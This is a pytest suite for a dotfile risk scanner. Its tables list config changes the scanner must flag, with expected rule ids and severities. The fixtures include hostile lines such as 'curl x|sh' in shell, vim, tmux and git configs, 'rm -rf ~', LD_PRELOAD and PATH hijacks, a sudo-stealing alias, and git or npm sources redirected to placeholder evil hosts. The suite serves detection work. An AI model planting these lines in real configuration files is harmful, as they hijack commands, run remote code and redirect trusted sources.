"""The risk report (qgitconf/core/risks.py): a table of changes, each with its exact risk ids.

Each row names what the change does.  Harmless changes must produce no finding at all,
and rules look only at added or changed lines.
"""

from __future__ import annotations

from collections.abc import Mapping

import pytest

from qgitconf.core.risks import (
    RULES,
    SEVERITIES,
    FileChange,
    Finding,
    Tree,
    assess,
    classify,
    has_high,
    parse_gitconfig,
    summary,
    tree_of,
)

F, X, L = 0o100644, 0o100755, 0o120000


def new(path: str, text: str | bytes, mode: int = F) -> FileChange:
    data = text.encode() if isinstance(text, str) else text
    return FileChange(path, None, mode, b"", data)


def edit(path: str, old: str, new_text: str, mode: int = F, old_mode: int = F) -> FileChange:
    return FileChange(path, old_mode, mode, old.encode(), new_text.encode())


GITCONFIG_OLD = "[user]\n\tname = Me\n[alias]\n\tst = status\n"

# (case id, change, expected risk ids in order)
CASES: list[tuple[str, FileChange, list[str]]] = [
    # -- harmless --
    (
        "git alias without !",
        edit(".gitconfig", GITCONFIG_OLD, GITCONFIG_OLD + "\tco = checkout\n"),
        [],
    ),
    (
        "git colour setting",
        edit(".gitconfig", GITCONFIG_OLD, GITCONFIG_OLD + "[color]\n\tui = auto\n"),
        [],
    ),
    ("new plain text file", new("notes/foo/notes.txt", "hello\n"), []),
    # -- system files (issue 15): one finding per file, "runs as root" where it does --
    (
        "system unit",
        new("system/etc/systemd/system/x.service", "[Service]\n"),
        ["system-runs-as-root"],
    ),
    ("system cron", new("system/etc/cron.d/x", "* * * * * root id\n"), ["system-runs-as-root"]),
    ("system program", new("system/usr/local/bin/tool", "#!/bin/sh\n"), ["system-path-program"]),
    ("system profile.d", new("system/etc/profile.d/a.sh", "export A=1\n"), ["system-user-code"]),
    ("system gitconfig", new("system/etc/gitconfig", "[core]\n"), ["system-user-code"]),
    ("system plain file", new("system/etc/hosts.allow", "ALL: LOCAL\n"), ["system-file"]),
    (
        "vim plain settings",
        new(".vimrc", "set number\nset tabstop=4 shiftwidth=4\nsyntax on\nset ft=sh\n"),
        ["editor-config-code"],
    ),
    (
        "ssh host block",
        new(".ssh/config", "Host github.com\n  User git\n  IdentityFile ~/.ssh/id\n"),
        [],
    ),
    ("removing a dangerous line", edit(".gitconfig", "[core]\n\tpager = evil\n", "[core]\n"), []),
    ("file removed", FileChange(".bashrc", F, None, b"rm -rf ~\n", b""), []),
    ("mode-only change to 644", edit("bin/tool", "echo\n", "echo\n", F, X), []),
    (
        "unchanged git key moved within file",
        edit(
            ".gitconfig",
            "[core]\n\tpager = less\n[user]\n\tname = a\n",
            "[user]\n\tname = a\n[core]\n\tpager = less\n",
        ),
        [],
    ),
    # -- executables --
    ("new executable", new("tools/foo/run", "#!/bin/sh\necho hi\n", X), ["executable-file"]),
    ("made executable", edit(".config/foo/run", "echo\n", "echo\n", X, F), ["executable-file"]),
    ("executable on PATH", new(".local/bin/ls", "#!/bin/sh\n", X), ["executable-in-path"]),
    ("executable on PATH changed", edit("bin/x", "a\n", "b\n", X, X), ["executable-in-path"]),
    # -- startup files --
    ("bashrc prompt", edit(".bashrc", "PS1='$ '\n", "PS1='# '\n"), ["shell-startup"]),
    ("zshenv", new(".zshenv", "export EDITOR=vim\n"), ["shell-startup"]),
    ("fish conf.d", new(".config/fish/conf.d/x.fish", "echo hi\n"), ["shell-startup"]),
    ("profile", edit(".profile", "", "umask 022\n"), ["shell-startup"]),
    ("xinitrc", new(".xinitrc", "exec i3\n"), ["x-session"]),
    ("xsession", new(".xsession", "xterm &\n"), ["x-session"]),
    (
        "autostart entry",
        new(".config/autostart/x.desktop", "[Desktop Entry]\nExec=x\n"),
        ["autostart-entry"],
    ),
    (
        "systemd user unit",
        new(".config/systemd/user/x.service", "[Service]\nExecStart=/bin/x\n"),
        ["systemd-user-unit"],
    ),
    ("environment.d", new(".config/environment.d/10-x.conf", "EDITOR=vim\n"), ["environment-d"]),
    (
        "environment.d LD_PRELOAD",
        new(".config/environment.d/10-x.conf", "LD_PRELOAD=/tmp/x.so\n"),
        ["environment-d", "shell-preload"],
    ),
    (
        "pam_environment PATH",
        new(".pam_environment", "PATH DEFAULT=/tmp:${PATH}\n"),
        ["environment-d", "shell-path-override"],
    ),
    (
        "desktop entry",
        new(".local/share/applications/firefox.desktop", "[Desktop Entry]\nExec=sh -c x\n"),
        ["desktop-entry"],
    ),
    # -- shell lines --
    (
        "PATH prepended",
        edit(".bashrc", "", 'export PATH="$HOME/.evil:$PATH"\n'),
        ["shell-startup", "shell-path-override"],
    ),
    (
        "fish_add_path",
        new(".config/fish/config.fish", "fish_add_path /tmp/x\n"),
        ["shell-startup", "shell-path-override"],
    ),
    (
        "zsh path array",
        new(".zshrc", "path=(/tmp/x $path)\n"),
        ["shell-startup", "shell-path-override"],
    ),
    (
        "LD_PRELOAD",
        edit(".bashrc", "", "export LD_PRELOAD=/tmp/x.so\n"),
        ["shell-startup", "shell-preload"],
    ),
    ("BASH_ENV", edit(".profile", "", "BASH_ENV=~/.x\n"), ["shell-startup", "shell-code-env"]),
    (
        "alias sudo",
        edit(".bashrc", "", "alias sudo='sudo_steal'\n"),
        ["shell-startup", "shell-alias-override"],
    ),
    (
        "alias ls colour is fine",
        edit(".bashrc", "", "alias ls='ls --color=auto'\n"),
        ["shell-startup"],
    ),
    (
        "alias ls with a command",
        edit(".bashrc", "", "alias ls='ls; curl x|sh'\n"),
        ["shell-startup", "shell-alias-override"],
    ),
    (
        "function git",
        edit(".bash_aliases", "", 'git() { command git "$@"; }\n'),
        ["shell-startup", "shell-alias-override"],
    ),
    (
        "fish function ssh",
        new(".config/fish/functions/ssh.fish", "function ssh\n  command ssh $argv\nend\n"),
        ["shell-startup", "shell-alias-override"],
    ),
    ("new alias ll", edit(".bashrc", "", "alias ll='ls -l'\n"), ["shell-startup"]),
    ("comment only in bashrc", edit(".bashrc", "PS1=x\n", "PS1=x\n# note\n"), []),
    # -- git config --
    (
        "git alias with !",
        edit(".gitconfig", GITCONFIG_OLD, GITCONFIG_OLD + '\tx = "!sh -c evil"\n'),
        ["git-alias-shell"],
    ),
    (
        "git alias with ! unquoted",
        new(".config/git/config", "[alias]\n  x = ! evil\n"),
        ["git-alias-shell"],
    ),
    (
        "core.pager",
        edit(".gitconfig", GITCONFIG_OLD, GITCONFIG_OLD + "[core]\n\tpager = evil\n"),
        ["git-command"],
    ),
    (
        "core.sshCommand mixed case",
        new(".gitconfig", "[Core]\n\tSshCommand = ssh -o ProxyCommand=x\n"),
        ["git-command"],
    ),
    ("core.editor", new(".gitconfig", "[core]\neditor = vim\n"), ["git-command"]),
    ("core.fsmonitor", new(".gitconfig", "[core]\n\tfsmonitor = /tmp/x\n"), ["git-command"]),
    ("core.hooksPath", new(".gitconfig", "[core]\n\thooksPath = ~/.hooks\n"), ["git-command"]),
    ("credential.helper", new(".gitconfig", "[credential]\n\thelper = !x\n"), ["git-command"]),
    ("diff.external", new(".gitconfig", "[diff]\n\texternal = x\n"), ["git-command"]),
    ("diff.*.textconv", new(".gitconfig", '[diff "pdf"]\n\ttextconv = x\n'), ["git-command"]),
    (
        "filter driver",
        new(".gitconfig", '[filter "lfs"]\n\tsmudge = x %f\n\tclean = y\n'),
        ["git-command", "git-command"],
    ),
    ("merge driver", new(".gitconfig", '[merge "ours"]\n\tdriver = true\n'), ["git-command"]),
    ("gpg.program", new(".gitconfig", "[gpg]\n\tprogram = /tmp/gpg\n"), ["git-command"]),
    ("gpg.ssh.program", new(".gitconfig", '[gpg "ssh"]\n\tprogram = x\n'), ["git-command"]),
    ("sequence.editor", new(".gitconfig", "[sequence]\n\teditor = x\n"), ["git-command"]),
    ("include.path", new(".gitconfig", "[include]\n\tpath = ~/x\n"), ["git-include"]),
    (
        "includeIf",
        new(".gitconfig", '[includeIf "gitdir:~/w/"]\n\tpath = ~/w.inc\n'),
        ["git-include"],
    ),
    (
        "url insteadOf",
        new(".gitconfig", '[url "https://evil.example/"]\n\tinsteadOf = https://github.com/\n'),
        ["git-url-rewrite"],
    ),
    ("http.proxy", new(".gitconfig", "[http]\n\tproxy = http://x:8080\n"), ["git-proxy"]),
    ("http.sslVerify", new(".gitconfig", "[http]\n\tsslVerify = false\n"), ["git-tls"]),
    ("deprecated [core.x] header", new(".gitconfig", "[pager.log]\n\tx = y\n"), ["git-command"]),
    ("key on the header line", new(".gitconfig", "[core] pager = x\n"), ["git-command"]),
    ("continued value", new(".gitconfig", '[alias]\n\tx = \\\n"!evil"\n'), ["git-alias-shell"]),
    (
        "section header changed",
        edit(".gitconfig", "[foo]\n\tpager = x\n", "[core]\n\tpager = x\n"),
        ["git-command"],
    ),
    ("gitattributes filter", new(".config/git/attributes", "*.txt filter=x\n"), ["git-attributes"]),
    # -- ssh --
    (
        "ProxyCommand",
        edit(".ssh/config", "Host a\n", "Host a\n  ProxyCommand nc %h %p\n"),
        ["ssh-proxy-command"],
    ),
    (
        "LocalCommand",
        new(".ssh/config", "Host *\n  PermitLocalCommand yes\n  LocalCommand x\n"),
        ["ssh-local-command", "ssh-local-command"],
    ),
    (
        "KnownHostsCommand",
        new(".ssh/config", "KnownHostsCommand=/tmp/x\n"),
        ["ssh-known-hosts-command"],
    ),
    ("Match exec", new(".ssh/config.d/a", 'Match host x exec "x"\n'), ["ssh-match-exec"]),
    ("PKCS11Provider", new(".ssh/config", "PKCS11Provider /tmp/x.so\n"), ["ssh-provider"]),
    (
        "StrictHostKeyChecking no",
        new(".ssh/config", "StrictHostKeyChecking no\n"),
        ["ssh-weakened"],
    ),
    ("StrictHostKeyChecking yes", new(".ssh/config", "StrictHostKeyChecking yes\n"), []),
    (
        "authorized_keys",
        new(".ssh/authorized_keys", "ssh-ed25519 AAAA x\n"),
        ["ssh-authorized-keys"],
    ),
    # -- vim --
    ("vim :!", new(".vimrc", ":!curl x | sh\n"), ["editor-config-code", "vim-shell-command"]),
    ("vim silent !", new(".vimrc", "silent !rm x\n"), ["editor-config-code", "vim-shell-command"]),
    (
        "vim autocmd !",
        new(".vimrc", "autocmd BufWritePost * !make\n"),
        ["editor-config-code", "vim-shell-command"],
    ),
    (
        "vim system()",
        new(".vim/plugin/x.vim", "let x = system('id')\n"),
        ["editor-config-code", "vim-shell-command"],
    ),
    (
        "vim mapping",
        new(".vimrc", "nnoremap <F5> :!make<CR>\n"),
        ["editor-config-code", "vim-shell-command"],
    ),
    (
        "vim != is no shell",
        new(".vimrc", "if a != b | echo 1 | endif\nif a || !b\nendif\n"),
        ["editor-config-code"],
    ),
    ("vim silent! call", new(".vimrc", "silent! call plug#begin()\n"), ["editor-config-code"]),
    ("vim set shell", new(".vimrc", "set shell=/tmp/x\n"), ["editor-config-code", "vim-option"]),
    (
        "vim set modeline",
        new(".vimrc", "set modeline\nset nomodeline\n"),
        ["editor-config-code", "vim-option"],
    ),
    (
        "nvim lua os.execute",
        new(".config/nvim/init.lua", "os.execute('id')\n"),
        ["editor-config-code", "vim-shell-command"],
    ),
    (
        "nvim vim.fn.system",
        new(".config/nvim/lua/x.lua", "vim.fn.system({'id'})\n"),
        ["editor-config-code", "vim-shell-command"],
    ),
    (
        "nvim vim.cmd !",
        new(".config/nvim/init.lua", 'vim.cmd("!id")\n'),
        ["editor-config-code", "vim-shell-command"],
    ),
    (
        "nvim lua option",
        new(".config/nvim/init.lua", "vim.opt.number = true\nvim.o.exrc = true\n"),
        ["editor-config-code", "vim-option"],
    ),
    # -- what the diff cannot show --
    ("symlink", FileChange("notes/x", None, L, b"", b"y"), ["symlink"]),
    ("symlink retargeted", FileChange("notes/x", L, L, b"y", b"z"), ["symlink"]),
    ("same symlink", FileChange(".config/x", L, L, b"y", b"y"), []),
    (
        "bashrc becomes a symlink",
        FileChange(".bashrc", F, L, b"x\n", b"notes"),
        ["symlink", "shell-startup"],
    ),
    ("binary", new("notes/x.bin", b"\x00\x01\x02"), ["binary-file"]),
    ("invalid utf-8 is binary", new("notes/x", b"\xff\xfe"), ["binary-file"]),
    ("binary bashrc", new(".bashrc", b"\x00x"), ["binary-file", "shell-startup"]),
    ("bidi override", new("notes/x", "a = 1 \u202e// ; x\n"), ["hidden-characters"]),
    ("ANSI escape", new("notes/x", "ok \x1b[2K\n"), ["hidden-characters"]),
    ("zero-width in name", new("notes/ba\u200dshrc", "x\n"), ["hidden-characters"]),
    ("carriage return hiding", new("notes/x", "echo ok\rhidden\n"), ["hidden-characters"]),
    ("CRLF line endings are fine", new("notes/x", "a\r\nb\r\n"), []),
    ("bidi in old lines only", edit("notes/x", "\u202e\n", "\u202e\nplain\n"), []),
]


def _ids(findings: list[Finding]) -> list[str]:
    return [f.rule for f in findings]


@pytest.mark.parametrize(("change", "expected"), [c[1:] for c in CASES], ids=[c[0] for c in CASES])
def test_risk_table(change: FileChange, expected: list[str]) -> None:
    assert _ids(assess([change])) == expected


def test_every_rule_is_in_the_table_and_documented() -> None:
    from pathlib import Path

    seen = {rule for _, _, ids in CASES for rule in ids}
    seen |= {rule for _, _, _, found in HOSTILE for rule, _ in found}
    assert seen == set(RULES), set(RULES) ^ seen
    doc = (Path(__file__).parent.parent / "docs" / "risks.md").read_text()
    for rule in RULES.values():
        assert rule.severity in SEVERITIES
        assert f"`{rule.id}`" in doc, rule.id


def test_findings_carry_line_and_sanitised_excerpt() -> None:
    change = edit(".gitconfig", GITCONFIG_OLD, GITCONFIG_OLD + "[core]\n\tpager = less \x1b[31m\n")
    hidden, f = assess([change])
    assert (hidden.rule, hidden.line) == ("hidden-characters", 6)
    assert (f.rule, f.severity, f.line) == ("git-command", "high", 6)
    assert "\x1b" not in f.text and "\\x1b" in f.text
    assert f.render().startswith("HIGH   git-command  .gitconfig:6")
    assert f.as_dict()["explanation"] == RULES["git-command"].explanation


def test_hostile_path_is_sanitised_in_findings() -> None:
    (f,) = assess([new("notes/a\u202eb", "x\n")])
    assert f.path == "notes/a\\u202eb"


def test_symlink_alias_makes_a_harmless_name_a_startup_file() -> None:
    change = new("notes/shell", "curl x | sh\n")
    assert _ids(assess([change])) == []
    assert _ids(assess([change], links={".bashrc": "notes/shell"})) == ["shell-startup"]
    desktop = new("notes/x.desktop", "[Desktop Entry]\nExec=x\n")
    assert _ids(assess([desktop])) == []
    found = assess([desktop], links={".config/autostart": "../notes", ".x": "/abs"})
    assert _ids(found) == ["autostart-entry"]
    chain = {".bashrc": ".b", ".b": "notes/shell"}
    assert _ids(assess([change], links=chain)) == ["shell-startup"]


def test_summary_and_has_high() -> None:
    found = assess([new(".bashrc", "x\n"), FileChange("notes/x", None, L, b"", b"y")])
    assert summary(found) == {"high": 1, "medium": 0, "low": 1}
    assert has_high(found)
    assert not has_high(assess([FileChange("notes/x", None, L, b"", b"y")]))


def test_gitconfig_parser_sections_and_subsections() -> None:
    text = '[Core]\n\tPager = less\n[url "HTTPS://x/"]\n\tinsteadOf = y ; comment\n[a.B]\n\tk\n'
    got = [(e.name, e.value, e.line) for e in parse_gitconfig(text)]
    assert got == [
        ("core.pager", "less", 2),
        ("url.HTTPS://x/.insteadof", "y", 4),
        ("a.b.k", None, 6),
    ]


def test_huge_file_is_not_line_diffed() -> None:
    old = "x\n" * 60_000
    change = edit(".bashrc", old, old + "echo\n")
    (f,) = assess([change])
    assert f.rule == "shell-startup"


# -- issue 14 part 2: hostile rows (one per attack), with the exact finding and level ------

H, M, LO = "high", "medium", "low"


def link(path: str, target: str) -> FileChange:
    return FileChange(path, None, L, b"", target.encode())


GITCONFIG_INC = b"[include]\n\tpath = ~/notes/gitwork\n"

# (case id, changes, links or tree, expected (rule, severity) in order)
HOSTILE: list[tuple[str, list[FileChange], Mapping[str, str] | None, list[tuple[str, str]]]] = [
    # -- any bytes: content rules still run, binary-file is only added --
    (
        "gitconfig with a NUL",
        [new(".gitconfig", b"[core]\n\tsshCommand = evil\x00\n")],
        None,
        [("binary-file", M), ("git-command", H)],
    ),
    (
        "gitconfig with a latin-1 byte",
        [new(".gitconfig", b"[user]\n\tname = Ren\xe9\n[core]\n\tpager = evil\n")],
        None,
        [("binary-file", M), ("git-command", H)],
    ),
    (
        "ssh config with a latin-1 byte",
        [new(".ssh/config", b"# caf\xe9\nHost x\n  ProxyCommand nc %h %p\n")],
        None,
        [("binary-file", M), ("ssh-proxy-command", H)],
    ),
    (
        "vimrc with an invalid byte",
        [new(".vimrc", b'" \xff\n:!curl x|sh\n')],
        None,
        [("binary-file", M), ("editor-config-code", H), ("vim-shell-command", H)],
    ),
    # -- git's config parser: no continuation that git does not make --
    (
        "value ending in an escaped backslash",
        [new(".gitconfig", "[core]\n\tx = a\\\\\n\tsshCommand = evil\n")],
        None,
        [("git-command", H)],
    ),
    (
        "backslash at the end of a # comment",
        [new(".gitconfig", "[core]\n\t# note \\\n\tsshCommand = evil\n")],
        None,
        [("git-command", H)],
    ),
    (
        "backslash in a ; comment after a value",
        [new(".gitconfig", "[core]\n\tx = a ; note \\\n\tsshCommand = evil\n")],
        None,
        [("git-command", H)],
    ),
    (
        "quoted escaped backslash",
        [new(".gitconfig", '[core]\n\tx = "a\\\\"\n\tpager = evil\n')],
        None,
        [("git-command", H)],
    ),
    (
        "escaped backslash with CRLF",
        [new(".gitconfig", "[core]\r\n\tx = a\\\\\r\n\tsshCommand = evil\r\n")],
        None,
        [("git-command", H)],
    ),
    # -- git keys that run code or redirect trust --
    (
        "init.templateDir",
        [new(".gitconfig", "[init]\n\ttemplateDir = ~/t\n")],
        None,
        [("git-command", H)],
    ),
    (
        "gpg.ssh.defaultKeyCommand",
        [new(".gitconfig", '[gpg "ssh"]\n\tdefaultKeyCommand = /tmp/x\n')],
        None,
        [("git-command", H)],
    ),
    (
        "gpg.ssh.allowedSignersFile",
        [new(".gitconfig", '[gpg "ssh"]\n\tallowedSignersFile = ~/x\n')],
        None,
        [("git-trust", H)],
    ),
    (
        "protocol.ext.allow",
        [new(".gitconfig", '[protocol "ext"]\n\tallow = always\n')],
        None,
        [("git-command", H)],
    ),
    (
        "protocol.allow",
        [new(".gitconfig", "[protocol]\n\tallow = always\n")],
        None,
        [("git-command", H)],
    ),
    (
        "mergetool.*.path",
        [new(".gitconfig", '[mergetool "vimdiff"]\n\tpath = /tmp/x\n')],
        None,
        [("git-command", H)],
    ),
    (
        "difftool.*.path",
        [new(".gitconfig", '[difftool "x"]\n\tpath = /tmp/x\n')],
        None,
        [("git-command", H)],
    ),
    (
        "trailer.*.command",
        [new(".gitconfig", '[trailer "x"]\n\tcommand = curl x|sh\n')],
        None,
        [("git-command", H)],
    ),
    (
        "trailer.*.cmd",
        [new(".gitconfig", '[trailer "x"]\n\tcmd = x\n')],
        None,
        [("git-command", H)],
    ),
    (
        "remote.*.uploadpack",
        [new(".gitconfig", '[remote "origin"]\n\tuploadpack = /tmp/x\n')],
        None,
        [("git-command", H)],
    ),
    (
        "remote.*.receivepack",
        [new(".gitconfig", '[remote "origin"]\n\treceivepack = /tmp/x\n')],
        None,
        [("git-command", H)],
    ),
    (
        "remote url ext::",
        [new(".gitconfig", '[remote "o"]\n\turl = ext::sh -c evil\n')],
        None,
        [("git-command", H)],
    ),
    (
        "core.alternateRefsCommand",
        [new(".gitconfig", "[core]\n\talternateRefsCommand = x\n")],
        None,
        [("git-command", H)],
    ),
    (
        "tar.*.command",
        [new(".gitconfig", '[tar "tgz"]\n\tcommand = x\n')],
        None,
        [("git-command", H)],
    ),
    (
        "submodule update !",
        [new(".gitconfig", '[submodule "s"]\n\tupdate = !evil\n')],
        None,
        [("git-command", H)],
    ),
    (
        "alias passing -c",
        [new(".gitconfig", "[alias]\n\tl = -c core.pager=evil log\n")],
        None,
        [("git-alias-shell", H)],
    ),
    # -- git config files as users name them, and whatever an include points to --
    (
        ".gitconfig-work",
        [new(".gitconfig-work", "[core]\n\tpager = x\n")],
        None,
        [("git-command", H)],
    ),
    (
        ".config/git/work",
        [new(".config/git/work", "[core]\n\tpager = x\n")],
        None,
        [("git-command", H)],
    ),
    (
        "included file anywhere (tree)",
        [new("notes/gitwork", "[core]\n\tpager = evil\n")],
        Tree({}, {".gitconfig": F, "notes/gitwork": F}, {".gitconfig": GITCONFIG_INC}),
        [("git-command", H)],
    ),
    (
        "include added, target changed in the same update",
        [new(".gitconfig", GITCONFIG_INC.decode()), new("notes/gitwork", "[core]\n\tpager = e\n")],
        None,
        [("git-include", H), ("git-command", H)],
    ),
    (
        "include added, unchanged target judged whole",
        [edit(".gitconfig", "", "[include]\n\tpath = notes/g\n")],
        Tree({}, {".gitconfig": F, "notes/g": F}, {"notes/g": b"[core]\n\tsshCommand = e\n"}),
        [("git-include", H), ("git-command", H)],
    ),
    (
        "a hook in core.hooksPath",
        [new("hooks/pre-commit", "curl x|sh\n", X)],
        Tree({}, {".gitconfig": F}, {".gitconfig": b"[core]\n\thooksPath = ~/hooks\n"}),
        [("executable-file", M), ("git-command", H)],
    ),
    # -- ssh --
    (
        'quoted "ProxyCommand"',
        [new(".ssh/config", '"ProxyCommand" nc %h %p\n')],
        None,
        [("ssh-proxy-command", H)],
    ),
    (
        'Proxy"Command"',
        [new(".ssh/config", 'Proxy"Command" nc %h %p\n')],
        None,
        [("ssh-proxy-command", H)],
    ),
    (
        "proxycommand=",
        [new(".ssh/config", "proxycommand=nc %h %p\n")],
        None,
        [("ssh-proxy-command", H)],
    ),
    ('Match "exec"', [new(".ssh/config", 'Match "exec" "true"\n')], None, [("ssh-match-exec", H)]),
    ("Match !exec", [new(".ssh/config", "Match host x !exec x\n")], None, [("ssh-match-exec", H)]),
    ("Include alone", [new(".ssh/config", "Include ~/.ssh/x.d/*\n")], None, [("ssh-include", M)]),
    (
        "Include of a new file with ProxyCommand",
        [new(".ssh/config", "Include ~/notes/hosts\n"), new("notes/hosts", "ProxyCommand evil\n")],
        None,
        [("ssh-include", M), ("ssh-proxy-command", H)],
    ),
    (
        "Include of an unchanged file with ProxyCommand",
        [edit(".ssh/config", "Host a\n", "Host a\nInclude hosts.d/*\n")],
        Tree({}, {".ssh/config": F, ".ssh/hosts.d/x": F}, {".ssh/hosts.d/x": b"ProxyCommand e\n"}),
        [("ssh-include", M), ("ssh-proxy-command", H)],
    ),
    ("ProxyJump", [new(".ssh/config", "ProxyJump evil\n")], None, [("ssh-weakened", M)]),
    ("~/.ssh/rc", [new(".ssh/rc", "curl x|sh\n")], None, [("ssh-rc", H)]),
    (
        "~/.ssh/environment",
        [new(".ssh/environment", "LD_PRELOAD=/tmp/x.so\n")],
        None,
        [("environment-d", H), ("shell-preload", H)],
    ),
    (
        "known_hosts",
        [new(".ssh/known_hosts", "github.com ssh-ed25519 AAAA\n")],
        None,
        [("ssh-known-hosts", H)],
    ),
    (
        "authorized_keys command=",
        [new(".ssh/authorized_keys", 'command="x" ssh-ed25519 A\n')],
        None,
        [("ssh-authorized-keys", H)],
    ),
    # -- vim/neovim: the file is code; the specific rule says what to look at --
    (
        "vim execute()",
        [new(".vimrc", "call execute('!curl x|sh')\n")],
        None,
        [("editor-config-code", H), ("vim-loads-code", H)],
    ),
    (
        "vim let &shell",
        [new(".vimrc", "let &shell='/tmp/x'\n")],
        None,
        [("editor-config-code", H), ("vim-option", M)],
    ),
    (
        "nvim vim.fn[...]",
        [new(".config/nvim/init.lua", "vim.fn['sys'..'tem']('id')\n")],
        None,
        [("editor-config-code", H), ("vim-loads-code", H)],
    ),
    (
        "vim source",
        [new(".vimrc", "source ~/x\n")],
        None,
        [("editor-config-code", H), ("vim-loads-code", H)],
    ),
    (
        "vim plain lua module",
        [new(".config/nvim/lua/p.lua", "return {}\n")],
        None,
        [("editor-config-code", H)],
    ),
    (
        "emacs init",
        [new(".emacs.d/init.el", '(shell-command "id")\n')],
        None,
        [("editor-config-code", H)],
    ),
    # -- files that had no rule --
    (
        "systemd user.conf",
        [new(".config/systemd/user.conf", "[Manager]\nDefaultEnvironment=LD_PRELOAD=/x.so\n")],
        None,
        [("systemd-user-unit", H)],
    ),
    (
        "D-Bus session service",
        [new(".local/share/dbus-1/services/org.x.service", "[D-BUS Service]\nExec=/tmp/x\n")],
        None,
        [("dbus-service", H)],
    ),
    (
        "tmux run-shell",
        [new(".tmux.conf", "run-shell 'curl x|sh'\n")],
        None,
        [("multiplexer-config", H)],
    ),
    (
        "tmux #()",
        [new(".config/tmux/tmux.conf", "set -g status-right '#(id)'\n")],
        None,
        [("multiplexer-config", H)],
    ),
    ("npmrc script-shell", [new(".npmrc", "script-shell=/tmp/x\n")], None, [("tool-runs-code", H)]),
    (
        "npmrc node-options",
        [new(".npmrc", "node-options=--require /tmp/x.js\n")],
        None,
        [("tool-runs-code", H)],
    ),
    ("npmrc registry", [new(".npmrc", "registry=https://evil/\n")], None, [("package-source", H)]),
    (
        "npmrc scoped registry",
        [new(".npmrc", "@corp:registry=https://evil/\n")],
        None,
        [("package-source", H)],
    ),
    ("npmrc proxy", [new(".npmrc", "https-proxy=http://evil:8080\n")], None, [("tool-network", M)]),
    (
        "pip index-url",
        [new(".config/pip/pip.conf", "[global]\nindex-url = https://evil/simple\n")],
        None,
        [("package-source", H)],
    ),
    (
        "lesskey LESSOPEN",
        [new(".config/lesskey", "#env\nLESSOPEN=||/tmp/x %s\n")],
        None,
        [("tool-runs-code", H)],
    ),
    (
        "mailcap",
        [new(".mailcap", "text/plain; cat %s; copiousoutput\n")],
        None,
        [("mailcap-command", H)],
    ),
    ("curlrc proxy", [new(".curlrc", "proxy = http://evil:8080\n")], None, [("tool-network", M)]),
    ("curlrc -x", [new(".curlrc", "-x evil:8080\n")], None, [("tool-network", M)]),
    ("curlrc engine", [new(".curlrc", "--engine /tmp/x.so\n")], None, [("tool-runs-code", H)]),
    (
        "wgetrc proxy",
        [new(".wgetrc", "https_proxy = http://evil:8080\n")],
        None,
        [("tool-network", M)],
    ),
    (
        "wgetrc use_askpass",
        [new(".wgetrc", "use_askpass = /tmp/x\n")],
        None,
        [("tool-runs-code", H)],
    ),
    (
        "mimeapps handler",
        [
            new(
                ".config/mimeapps.list",
                "[Default Applications]\nx-scheme-handler/https=e.desktop\n",
            )
        ],
        None,
        [("mime-handler", M)],
    ),
    (
        "starship custom command",
        [new(".config/starship.toml", '[custom.x]\ncommand = "curl x|sh"\nwhen = "true"\n')],
        None,
        [("tool-runs-code", H), ("tool-runs-code", H)],
    ),
    (
        "gradle init.d",
        [new(".gradle/init.d/x.gradle", "exec { }\n")],
        None,
        [("build-tool-code", H)],
    ),
    (
        "cargo rustc-wrapper",
        [new(".cargo/config.toml", '[build]\nrustc-wrapper = "/tmp/x"\n')],
        None,
        [("tool-runs-code", H)],
    ),
    (
        "cargo dotted key",
        [new(".cargo/config.toml", 'build.rustc-wrapper = "/tmp/x"\n')],
        None,
        [("tool-runs-code", H)],
    ),
    (
        "cargo target runner",
        [new(".cargo/config.toml", '[target.x86_64-unknown-linux-gnu]\nrunner = "x"\n')],
        None,
        [("tool-runs-code", H)],
    ),
    (
        "python .pth",
        [new(".local/lib/python3.11/site-packages/x.pth", "import os; os.system('id')\n")],
        None,
        [("python-startup", H)],
    ),
    (
        "usercustomize.py",
        [new(".local/lib/python3.12/site-packages/usercustomize.py", "import x\n")],
        None,
        [("python-startup", H)],
    ),
    (
        "inputrc macro",
        [new(".inputrc", '"\\C-m": "curl x|sh\\n"\n')],
        None,
        [("readline-macro", H)],
    ),
    ("inputrc $include", [new(".inputrc", "$include /tmp/x\n")], None, [("config-include", M)]),
    ("inputrc setting is fine", [new(".inputrc", "set completion-ignore-case on\n")], None, []),
    ("editorconfig is harmless", [new(".editorconfig", "[*]\nindent_size = 4\n")], None, []),
    # -- what cannot be classified, in places programs read config from --
    (
        "unknown .config file",
        [new(".config/foo/settings", "colour = blue\n")],
        None,
        [("unclassified-config", H)],
    ),
    ("unknown top-level dotfile", [new(".somerc", "x\n")], None, [("unclassified-config", H)]),
    (
        "unknown .local/share file",
        [new(".local/share/foo/x", "x\n")],
        None,
        [("unclassified-config", H)],
    ),
    (
        "font is known data",
        [new(".local/share/fonts/x.ttf", b"\x00\x01")],
        None,
        [("binary-file", M)],
    ),
    ("plain data elsewhere", [new("notes/todo.txt", "x\n")], None, []),
    # -- symlinks are judged as what they reach --
    (
        "bin/git -> ../tools/g (new)",
        [link("bin/git", "../tools/g"), new("tools/g", "#!/bin/sh\n", X)],
        {"bin/git": "../tools/g"},
        [("symlink", LO), ("executable-in-path", H), ("executable-in-path", H)],
    ),
    (
        "later change to tools/g",
        [edit("tools/g", "a\n", "b\n", X, X)],
        {"bin/git": "../tools/g"},
        [("executable-in-path", H)],
    ),
    (
        "non-executable file reached from PATH",
        [edit("tools/g", "a\n", "b\n")],
        {".local/bin/g": "../../tools/g"},
        [("executable-in-path", H)],
    ),
    (
        ".local/bin -> ../tools (directory)",
        [link(".local/bin", "../tools")],
        Tree({".local/bin": "../tools"}, {"tools/ls": X, ".local/bin": L}),
        [("symlink", LO), ("executable-in-path", H)],
    ),
    (
        ".config/autostart -> ../notes (directory)",
        [link(".config/autostart", "../notes")],
        Tree({".config/autostart": "../notes"}, {"notes/x.desktop": F, ".config/autostart": L}),
        [("symlink", LO), ("autostart-entry", H)],
    ),
    (
        ".gitconfig -> unchanged file",
        [link(".gitconfig", "notes/g")],
        {".gitconfig": "notes/g"},
        [("symlink", LO), ("symlink-config", H)],
    ),
    (
        ".gitconfig -> file new in this update",
        [link(".gitconfig", "notes/g"), new("notes/g", "[core]\n\tpager = x\n")],
        {".gitconfig": "notes/g"},
        [("symlink", LO), ("git-command", H)],
    ),
]


@pytest.mark.parametrize(
    ("changes", "links", "expected"), [h[1:] for h in HOSTILE], ids=[h[0] for h in HOSTILE]
)
def test_hostile_table(
    changes: list[FileChange], links: Mapping[str, str] | None, expected: list[tuple[str, str]]
) -> None:
    found = assess(changes, links)
    assert [(f.rule, f.severity) for f in found] == expected
    assert has_high(found) == any(level == H for _, level in expected)


